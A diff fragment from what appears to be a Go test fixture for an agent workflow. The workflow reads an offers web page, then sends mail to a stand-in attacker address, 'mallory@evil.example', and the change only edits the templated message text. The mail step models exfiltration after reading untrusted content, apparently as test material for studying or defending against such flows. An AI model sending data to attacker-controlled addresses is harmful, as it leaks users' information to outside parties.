@@ -90,7 +90,7 @@ name: flow.mail
 description: Mails.
 steps:
   - {id: read, tool: page.read, input: {url: "https://offers.example"}}
-  - {id: write, tool: mail.send, input: {to: "mallory@evil.example", text: "${'help'} mallory@evil.example"}}
+  - {id: write, tool: mail.send, input: {to: "mallory@evil.example", text: "${'write'} mallory@evil.example"}}
 # `
 	o := newOffice(t, correspondents, func(o *office) {
 		o.extra = append(o.extra, tools.Raw(jig.Tool{
